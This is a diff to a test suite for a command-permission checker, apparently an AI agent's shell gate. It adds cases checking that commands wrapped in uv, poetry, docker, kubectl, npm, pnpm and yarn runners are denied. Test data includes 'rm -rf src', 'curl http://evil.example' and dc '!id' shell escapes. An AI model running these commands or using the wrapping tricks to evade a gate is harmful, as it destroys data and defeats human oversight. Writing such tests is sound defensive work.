@@ -74,6 +74,36 @@ describe('command check: the review of stop 34', () => {
     keeps(['git checkout :/src/file.ts'], 'ask');
   });
 
+  it('5: global options (and their values) before the subcommand of uv, poetry, docker and kubectl', () => {
+    withAllowed(['uv']).denied(['uv -q run rm -rf src', 'uv --directory . run rm -rf src', 'uv --color never run curl http://evil.example']);
+    withAllowed(['poetry']).denied(['poetry -q run rm -rf src', 'poetry -C . run curl http://evil.example']);
+    withAllowed(['docker']).denied([
+      `docker --debug run --rm alpine ${EVIL}`,
+      `docker --context prod exec box ${EVIL}`,
+      `docker -l debug container run alpine ${EVIL}`,
+    ]);
+    withAllowed(['kubectl']).denied([`kubectl -n prod exec pod -- ${EVIL}`, `kubectl --context prod exec -it pod -- ${EVIL}`]);
+    withAllowed(['docker']).keeps(['docker --debug ps', 'docker --context prod images'], 'allow');
+    withAllowed(['kubectl']).keeps(['kubectl -n prod get pods'], 'allow');
+    withAllowed(['uv']).keeps(['uv -q run pytest'], 'ask');
+    withAllowed(['poetry']).keeps(['poetry -q install'], 'allow');
+  });
+
+  it("6: npm's and pnpm's options are read as npmPolicy reads them before the runner finds the command", () => {
+    denied([
+      `npm --json false exec ${EVIL}`,
+      `npm --json true exec -- ${EVIL}`,
+      `npm --color always exec ${EVIL}`,
+      `npm exe ${EVIL}`,
+      'npm exec git --json true push',
+      `pnpm -w exec ${EVIL}`,
+    ]);
+    withAllowed(['npm']).denied([`npm exe ${EVIL}`, `npm --json false exec ${EVIL}`]);
+    withAllowed(['pnpm']).denied([`pnpm -w exec ${EVIL}`]);
+    keeps(['npm --json false test'], 'allow');
+    keeps(['npm --json false ls', 'npm exe -- tsc --version', 'pnpm -w exec tsc --version'], 'ask');
+  });
+
   it('a, b, c: interpreter options that are not inline code: -P and -I of ts-node, longer words that start like -s or -e, julia --project', () => {
     keeps(
       [
@@ -125,5 +155,30 @@ describe('command check: the review of stop 34', () => {
     keeps(['dc --version', 'dc -V', 'dc --help', 'dc -h', "dc -e '2 3 + p'"], 'ask');
     denied(['dc', "dc -e '!id'", "dc --e='!id' x.dc", "dc --expr '!id' x.dc", "dc -e '!id' -V"]);
     withAllowed(['dc']).denied(["dc --e='!id' x.dc"]);
+  });
+
+  it("i: options after the command pnpm and yarn run are the command's; npm reads those before -- as its own", () => {
+    keeps(['pnpm exec tsc --noEmit', 'pnpm dlx prettier --check .', 'yarn dlx eslint --fix .', 'yarn exec tsc --noEmit', 'npm exec -- eslint --fix .'], 'ask');
+    // npm reads `--fix` after the command as its own configuration, and eslint never gets it.
+    denied(['npm exec eslint --fix .', `pnpm exec ${EVIL}`, 'pnpm dlx --zz prettier', 'pnpm --prefix /tmp exec tsc']);
+  });
+
+  it('the package runners: npm exec -c/--call/--package, pnpm -c/--filter and yarn dlx -p hand their command to the check', () => {
+    denied([
+      `npm exec -c '${EVIL}'`,
+      `npm exec --call='${EVIL}'`,
+      `npm x --package=cowsay -c '${EVIL}'`,
+      `npm exec --package cowsay -- ${EVIL}`,
+      `pnpm -c exec '${EVIL}'`,
+      `pnpm --shell-mode exec '${EVIL}'`,
+      `pnpm --filter app exec ${EVIL}`,
+      `pnpm dlx --package=cowsay ${EVIL}`,
+      `pnpm dlx -c '${EVIL}'`,
+      `yarn dlx -p cowsay ${EVIL}`,
+    ]);
+    keeps(
+      ["npm exec -c 'tsc --noEmit'", 'npm exec --package=typescript -- tsc --version', 'pnpm --filter app exec tsc', 'yarn dlx -p cowsay cowsay hi'],
+      'ask',
+    );
   });
 });
